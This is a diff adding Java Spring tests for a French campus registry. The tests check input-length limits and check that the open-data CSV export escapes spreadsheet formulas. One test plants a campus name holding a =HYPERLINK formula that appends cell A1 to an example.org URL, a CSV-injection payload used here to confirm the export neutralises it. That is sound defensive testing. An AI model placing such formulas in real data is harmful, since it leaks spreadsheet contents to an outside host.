@@ -31,6 +31,8 @@ class PublicRegistryTest {
     CampusRegistry registry;
     @Autowired
     ObjectMapper json;
+    @Autowired
+    fr.passerelle.identity.Accounts accounts;
 
     @Test
     void demoRegistryHoldsAtLeastThirtyCampusesAcrossManyRegions() {
@@ -98,6 +100,37 @@ class PublicRegistryTest {
         mvc.perform(get("/api/v1/campuses").param("filiere", "astronautique"))
                 .andExpect(status().isBadRequest())
                 .andExpect(jsonPath("$.detail").value(containsString("Valeur inconnue pour « filière » : astronautique")));
+    }
+
+    @Test
+    void aSearchLongerThanTwoHundredCharactersIsCutAndTheReaderTold() throws Exception {
+        String wildcard = "a".repeat(1_001) + "*";
+        mvc.perform(get("/campus").param("q", wildcard))
+                .andExpect(status().isOk())
+                .andExpect(content().string(containsString("La recherche ne peut dépasser 200 caractères")));
+        mvc.perform(get("/api/v1/campuses").param("q", wildcard))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.detail").value(containsString("La recherche ne peut dépasser 200 caractères")));
+        mvc.perform(get("/open-data/campuses.csv").param("q", wildcard))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.detail").value(containsString("La recherche ne peut dépasser 200 caractères")));
+        mvc.perform(get("/api/v1/campuses").param("page", "99999999999"))
+                .andExpect(status().isBadRequest())
+                .andExpect(jsonPath("$.detail").value(containsString("« page » doit être un entier positif")));
+    }
+
+    @Test
+    void openDataNeverHandsASpreadsheetAFormula() throws Exception {
+        var admin = accounts.byUsername("admin").orElseThrow();
+        String name = "=HYPERLINK(\"https://example.org/?\"&A1;\"Campus\") " + java.util.UUID.randomUUID().toString().substring(0, 6);
+        registry.create(admin, new CampusIdentity(name, Sector.DIGITAL, "52", "17", null, null, 47.2, -1.55, null, LabelCategory.STANDARD,
+                LabelStatus.APPLICANT, null, null, null, null, null, null, null, null));
+
+        String csv = mvc.perform(get("/open-data/campuses.csv")).andExpect(status().isOk()).andReturn().getResponse()
+                .getContentAsString(StandardCharsets.UTF_8);
+
+        String line = csv.lines().filter(l -> l.contains("HYPERLINK")).findFirst().orElseThrow();
+        assertThat(line).contains(";\"'=HYPERLINK(", ";47.2;-1.55;").doesNotContain(";=").doesNotContain(";\"=");
     }
 
     @Test
